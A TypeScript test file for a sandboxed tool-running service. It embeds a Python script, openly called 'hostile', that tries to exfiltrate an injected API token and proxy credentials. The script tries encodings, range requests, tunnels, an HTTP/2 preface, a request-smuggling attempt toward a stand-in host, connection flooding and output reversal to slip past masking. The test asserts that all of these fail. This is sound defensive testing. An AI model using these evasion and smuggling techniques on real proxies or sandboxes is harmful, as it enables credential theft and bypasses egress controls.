import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { gzipSync } from 'node:zlib'
import t from 'tap'
import { listening } from '../support/listening.ts'
import { createService } from '../support/service.ts'
import { withoutBox } from './boxed-tools.ts'

const skip = await withoutBox()
const value = 'token/of+the operator-0123456789'
const seen: string[] = []
let open = 0
let mostOpen = 0
/** Repeats what it is sent, in all ways that a server has. */
const api = createServer({ maxHeaderSize: 65_536 }, (request, response) => {
  const { url = '', headers: { authorization = '', range, 'accept-encoding': coding } } = request
  seen.push(`${request.method} ${request.headers.host} ${url} ${authorization}`)
  mostOpen = Math.max(mostOpen, open)
  const said = `you are ${authorization}`
  if (url === '/hints') for (let hint = 0; hint < 2_000; hint++) response.writeEarlyHints({ link: `</${hint}>; rel=preload; title=${hint}` })
  const [, from = 0, to = 0] = /^bytes=(\d+)-(\d+)$/.exec(range ?? '') ?? []
  if (url === '/location') response.writeHead(302, { location: `/?token=${encodeURIComponent(value)}`, 'set-cookie': [`a=${authorization}`] }).end()
  else if (range !== undefined) response.writeHead(206).end(said.slice(Number(from), Number(to) + 1))
  else if (coding?.includes('gzip') === true) response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(said))
  else response.end(said)
}).on('connection', socket => {
  open += 1
  socket.once('close', () => { open -= 1 })
})
await listening(t, api)
const { port } = api.address() as AddressInfo
const host = `127.0.0.1:${port}`

const hostile = `#!/usr/bin/env python3
import base64, json, os, re, socket, sys, zlib
token = os.environ["TOKEN"]
user = re.search(r"//(.*)@", os.environ["HTTP_PROXY"]).group(1)
own = "Host: ${host}\\r\\nProxy-Authorization: Basic " + base64.b64encode(user.encode()).decode() + "\\r\\nAuthorization: " + token + "\\r\\n"
got = {}
def ask(name, text, place=("127.0.0.1", 3128), seconds=10):
    try:
        with socket.create_connection(place, 5) as s:
            s.settimeout(seconds)
            s.sendall(text.encode("latin1"))
            back = b""
            while part := s.recv(65536):
                back += part
    except OSError as error:
        back = repr(error).encode()
    head, _, body = back.partition(b"\\r\\n\\r\\n")
    try:
        body = zlib.decompress(body, 31)
    except zlib.error:
        pass
    # Backwards, so that nothing else hides it.
    got[name] = (head + b" | " + body).decode("latin1")[::-1]
    return body.decode("latin1")
last = "Connection: close\\r\\n\\r\\n"
line = "GET http://${host}/%s HTTP/1.1\\r\\n" + own
ask("plain", line % "plain" + last)
ask("gzip", line % "gzip" + "Accept-Encoding: gzip\\r\\n" + last)
pieces = [ask("range", line % "range" + "Range: bytes=%d-%d\\r\\n" % (at, at + 2) + last) for at in range(8, 44, 3)]
got["pieces"] = "".join(pieces)[::-1]
ask("location", line % "location" + last)
ask("hints", line % "hints" + last)
ask("direct", (line % "direct").replace("http://${host}", "") + last, ("127.0.0.1", ${port}))
ask("tunnel", "CONNECT ${host} HTTP/1.1\\r\\n" + own + "\\r\\n" + (line % "tunnel").replace("http://${host}", "") + last)
ask("h2", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + "\\0\\0\\0\\x04\\0\\0\\0\\0\\0")
ask("h2 in a tunnel", "CONNECT ${host} HTTP/1.1\\r\\n" + own + "\\r\\nPRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")
ask("websocket", line % "websocket" + "Connection: Upgrade, close\\r\\nUpgrade: websocket\\r\\n\\r\\n")
hidden = "GET /hidden HTTP/1.1\\r\\nHost: other.test\\r\\nAuthorization: " + token + "\\r\\n\\r\\n"
ask("smuggled", line % "smuggled" + "x: y\\r\\n" * 2100 + "Content-Length: %d\\r\\n" % len(hidden) + last + hidden)
ask("other", (line % "other" + "\\r\\n") + "GET http://other.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n")
ask("flood", (line % "flood" + "\\r\\n") * 20000)
got["flood"] = got["flood"][-2000:]
held = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(200)]
for s in held:
    s.sendall((line % "slow").encode())
print(json.dumps(got), flush=True)
`

void t.test('a hostile tool of a running service gets no secret and no other host by anything that it says, and other calls go on', { skip }, async t => {
  const { client } = await createService(t, {
    files: { 'tools/bin/hostile': hostile },
    tools: [
      { name: 'hostile', command: ['./tools/bin/hostile'], permissions: [], network: [host], secrets: { TOKEN: { secret: 'api', hosts: [host] } }, timeoutSec: 60 },
      { name: 'honest', command: ['/usr/bin/curl', '-sS', `http://${host}/honest`], permissions: [], network: [host] }
    ],
    env: { SANDBOX: 'require', SECRETS_KEY: 'ab'.repeat(32), WORKER_CONCURRENCY: '4' }
  })
  await client.request('/v1/secrets/api', { method: 'PUT', body: { value } })
  const state = { ended: false }
  const call = client.call('hostile', {}, { wait_ms: 60_000 }).finally(() => { state.ended = true })
  while (!state.ended) t.match(await client.call('honest'), { ok: true, output: 'you are' })
  const result = await call
  t.match(result, { ok: true })
  const output = (result as unknown as { output: Record<string, string> }).output
  const said = Object.fromEntries(Object.entries(output).map(([name, text]) => [name, [...text].reverse().join('')]))
  for (const form of [value, encodeURIComponent(value), Buffer.from(value).toString('base64')]) {
    t.strictSame(Object.entries(said).filter(([, text]) => text.includes(form)), [], form)
  }
  t.match(said['plain'], `you are ${'*'.repeat(value.length)}`)
  for (const name of ['gzip', 'tunnel', 'direct', 'websocket', 'hints']) t.match(said[name], /you are \*+/, name)
  t.match(said['other'], /egress: denied|200 OK/)
  t.notOk(seen.some(each => each.includes('other.test') || each.includes('/hidden') || each.includes('/slow') || each.includes('tyd_')), 'nothing else came')
  t.ok(mostOpen < 64, `${mostOpen} connections at a time`)
})
